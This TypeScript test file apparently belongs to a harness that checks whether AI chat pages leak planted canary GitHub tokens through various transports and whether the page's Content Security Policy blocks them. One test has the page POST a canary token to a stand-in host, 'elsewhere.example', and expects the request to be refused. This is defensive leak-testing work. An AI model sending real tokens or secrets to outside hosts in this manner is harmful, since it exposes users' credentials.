import { CHATS, openChat } from '../browser/chats';
import { expect, bare as test } from '../browser/fixtures';
import { canary, leaks } from './canary';
import { takeTransport } from './take-transport';
import { TRANSPORTS } from './transports';

/** So many pages at once: they wait more than they compute. */
const TOGETHER = 8;

test('the record shows what leaves by each transport', async ({ context, recorder }) => {
  test.setTimeout(300_000);
  const rows = Object.entries(TRANSPORTS).map(([name, source]) => ({
    name,
    source,
    planted: canary('github-token', name),
  }));
  for (let from = 0; from < rows.length; from += TOGETHER) {
    const some = rows.slice(from, from + TOGETHER);
    const pages = await Promise.all(
      some.map(({ source, planted }) =>
        takeTransport(context, CHATS['chatgpt-shell'], [{ source, text: planted.text }]),
      ),
    );
    const silent = () =>
      some.filter(({ planted }) => leaks(recorder, planted).length === 0).map(({ name }) => name);
    await expect.poll(silent, { timeout: 20_000 }).toEqual([]);
    await Promise.all(pages.map((page) => page.close()));
    // Each look goes through the whole record.
    recorder.reset();
  }
});

test("the page's own policy holds, and its violations are recorded", async ({ page, recorder }) => {
  const planted = canary('github-token', 'policy');
  await openChat(page, CHATS['chatgpt-shell']);
  const refused = await page.evaluate(
    (text) => fetch('https://elsewhere.example/', { method: 'POST', body: text }).then(String, String),
    planted.text,
  );
  expect(refused).toContain('TypeError');
  await recorder.until((entries) =>
    entries.some(({ url, complete }) => complete && url.pathname === '/__csp'),
  );
  const [report] = recorder.sent(/^\/__csp$/);
  expect(report?.body.toString()).toContain('connect-src');
  expect(leaks(recorder, planted)).toEqual([]);
});

test('a name that no replica has leads nowhere', async ({ page, replicas, recorder }) => {
  replicas.configure({ csp: 'off' });
  await openChat(page, CHATS['chatgpt-shell']);
  // Browsers take such names to loopback without asking anybody, so that only the mapping stands in the way.
  const url = `https://elsewhere.localhost:${replicas.port}/x`;
  const reached = await page.evaluate((to) => fetch(to, { mode: 'no-cors' }).then(String, String), url);
  expect(reached).toContain('TypeError');
  expect(recorder.sent(/^\/x$/)).toEqual([]);
});

for (const chat of Object.values(CHATS))
  test(`${chat.name} breaks no policy of its own`, async ({ page, replicas, recorder }) => {
    replicas.configure(chat.switches);
    await openChat(page, chat);
    expect(recorder.sent(/^\/__csp$/)).toEqual([]);
  });
